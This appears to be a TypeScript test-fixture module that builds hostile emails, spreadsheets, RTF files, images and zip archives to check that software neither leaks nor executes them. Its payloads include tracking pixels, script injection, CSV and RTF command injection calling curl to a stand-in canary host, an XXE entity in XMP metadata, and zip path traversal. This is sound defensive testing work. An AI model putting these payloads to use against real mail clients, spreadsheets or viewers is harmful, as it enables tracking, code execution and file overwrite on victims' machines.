import { readFileSync } from 'node:fs';
import { crc32 } from 'node:zlib';
import { type HostileFile, type Lure, payload, proseOf, textFile, zipFile } from './hostile-file';

function mail(name: string, headers: string[], body: string): HostileFile {
  const own = ['From: eve@example.org', 'To: you@example.org', `Subject: About ${name}`];
  const date = 'Date: Mon, 05 May 2025 10:00:00 +0000';
  return textFile(
    `mail-${name}.eml`,
    [...own, date, 'MIME-Version: 1.0', ...headers, '', body, ''].join('\r\n'),
  );
}

const page = 'Content-Type: text/html; charset=utf-8';

/** Messages that tell their sender when they are read. */
export function mails(lure: Lure): HostileFile[] {
  const { canary, nowhere } = lure;
  const code = payload(lure);
  const part = (headers: string, body: string) => `--b\r\n${headers}\r\n\r\n${body}\r\n`;
  const many = 'Content-Type: multipart/related; boundary=b';
  return [
    mail(
      'pixel',
      [page],
      `<p>${proseOf('mail-pixel')}</p><img src="${canary}/pixel.gif?to=you" width="1" height="1"><img src="${nowhere}/p.gif">`,
    ),
    mail(
      'script',
      [page],
      `<p>${proseOf('mail-script')}</p><script>${code}</script><img src=x onerror="${code}">`,
    ),
    mail(
      'base',
      [page, `Content-Base: ${canary}/`, `Content-Location: ${canary}/m.html`],
      `<base href="${canary}/"><p>${proseOf('mail-base')}</p><img src="i.png">`,
    ),
    mail(
      'receipt',
      [
        'Content-Type: text/plain',
        `Disposition-Notification-To: <${canary}/receipt>`,
        `List-Unsubscribe: <${canary}/gone>`,
        'List-Unsubscribe-Post: List-Unsubscribe=One-Click',
      ],
      `${proseOf('mail-receipt')} Track your parcel: ${canary}/track?id=7`,
    ),
    mail(
      'external',
      [many],
      `${part(page, `<p>${proseOf('mail-external')}</p><img src="cid:a">`)}${part(`Content-Type: message/external-body; access-type=URL; URL="${canary}/body"`, 'Content-Type: image/png\r\nContent-ID: <a>\r\n')}--b--`,
    ),
    mail(
      'attached',
      [many],
      `${part('Content-Type: text/plain', proseOf('mail-attached'))}${part('Content-Type: image/svg+xml; name=a.svg\r\nContent-Disposition: attachment; filename=a.svg', `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${code}</script><image href="${canary}/a"/></svg>`)}--b--`,
    ),
    textFile(
      'mails.mbox',
      `From eve@example.org Mon May  5 10:00:00 2025\r\nFrom: eve@example.org\r\nSubject: one\r\n${page}\r\n\r\n<p>${proseOf('mbox')}</p><img src="${canary}/mbox.gif">\r\n\r\nFrom eve@example.org Mon May  5 11:00:00 2025\r\nSubject: two\r\n\r\n${nowhere}/track\r\n`,
    ),
  ];
}

/** Tables and data whose cells are formulas or addresses. */
export function tables(lure: Lure): HostileFile[] {
  const { canary, nowhere } = lure;
  const table = (name: string, cell: string) =>
    textFile(
      `csv-${name}.csv`,
      `name,price,link\nboat,3,"${cell.replaceAll('"', '""')}"\nferry,4,none\n`,
    );
  return [
    table('webservice', `=WEBSERVICE("${canary}/w")`),
    table('hyperlink', `=HYPERLINK("${canary}/h?d="&A1,"click")`),
    table('command', `=cmd|'/c curl ${canary}'!A0`),
    table('tags', `<img src="${canary}/t.png" onerror="${payload(lure)}">`),
    textFile(
      'table.tsv',
      `name\tlink\nboat\t@SUM(IMAGE("${canary}/i.png"))\nferry\tjavascript:${payload(lure)}\n`,
    ),
    textFile(
      'data.json',
      JSON.stringify({
        $schema: `${canary}/s.json`,
        $ref: `${nowhere}/r`,
        '@context': `${canary}/c`,
        note: proseOf('data.json'),
      }).replace('{', '{"__proto__":{"polluted":1},'),
    ),
    textFile(
      'rows.jsonl',
      `${JSON.stringify({ name: 'boat', image: `${canary}/i.png` })}\n${JSON.stringify({ name: 'ferry', image: `<script>${payload(lure)}</script>` })}\n`,
    ),
  ];
}

/** RTF with fields, templates and objects that lie elsewhere. */
export function richTexts({ canary, nowhere }: Lure): HostileFile[] {
  const rtf = (name: string, inside: string) =>
    textFile(`rtf-${name}.rtf`, `{\\rtf1\\ansi ${proseOf(name)}\\par ${inside}}`);
  return [
    rtf('include', `{\\field{\\*\\fldinst INCLUDEPICTURE "${canary}/i.png" \\\\d}{\\fldrslt x}}`),
    rtf('template', `{\\*\\template ${canary}/t.dotm}`),
    rtf(
      'object',
      `{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata ${Buffer.from(`${nowhere}/o`).toString('hex')}}}`,
    ),
    rtf(
      'link',
      `{\\field{\\*\\fldinst HYPERLINK "${canary}/click"}{\\fldrslt here}}{\\field{\\*\\fldinst DDEAUTO cmd "/c curl ${canary}"}{\\fldrslt y}}`,
    ),
  ];
}

const xmp = ({ canary, nowhere }: Lure): string =>
  `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY e SYSTEM "${canary}/xmp.ent">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="${canary}/about" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmpRights="http://ns.adobe.com/xap/1.0/rights/" xmpRights:WebStatement="${nowhere}/rights"><dc:description><rdf:Alt><rdf:li xml:lang="x-default">a picture &lt;img src='${canary}/d'&gt;</rdf:li></rdf:Alt></dc:description></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;

function pngChunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** Pictures that say something of themselves. */
export function pictures(lure: Lure): HostileFile[] {
  const picture = (name: string, ...parts: Buffer[]): HostileFile => ({
    name,
    mimeType: '',
    buffer: Buffer.concat(parts),
  });
  const png = readFileSync('tests/browser/fixtures/palette-transparent.png');
  const header = 8 + 25;
  const withChunk = (name: string, type: string, text: string) =>
    picture(
      name,
      png.subarray(0, header),
      pngChunk(type, Buffer.from(text, 'latin1')),
      png.subarray(header),
    );
  const jpeg = readFileSync('tests/browser/fixtures/cmyk.jpg');
  const segment = (marker: number, text: string) => {
    const data = Buffer.from(text, 'latin1');
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([head, data]);
  };
  const gif = readFileSync('tests/browser/fixtures/moving.gif');
  const code = payload(lure);
  return [
    withChunk('png-xmp.png', 'iTXt', `XML:com.adobe.xmp\0\0\0\0\0${xmp(lure)}`),
    withChunk(
      'png-text.png',
      'tEXt',
      `Description\0<script>${code}</script><img src="${lure.canary}/x">`,
    ),
    picture(
      'jpeg-xmp.jpg',
      jpeg.subarray(0, 2),
      segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${xmp(lure)}`),
      jpeg.subarray(2),
    ),
    picture(
      'gif-page.gif',
      gif,
      Buffer.from(`<html><script>${code}</script><img src="${lure.canary}/g"></html>`),
    ),
    textFile('side.xmp', xmp(lure)),
  ];
}

/** Archives of hostile files, with names that lead out of them. */
export async function archives(lure: Lure): Promise<HostileFile[]> {
  const page = `<p>${proseOf('zipped')}</p><script>${payload(lure)}</script><img src="${lure.canary}/zip.png">`;
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${lure.canary}/z"/></svg>`;
  const inner = await zipFile('inner.zip', { 'deep.html': page });
  return Promise.all([
    zipFile('zip-pages.zip', { 'a.html': page, 'b.svg': drawing }),
    zipFile('zip-path.zip', { '../../out.html': page, [`${lure.canary}/x.html`]: `${page}2` }),
    zipFile('zip-nested.zip', { 'inner.zip': inner.buffer }),
  ]);
}
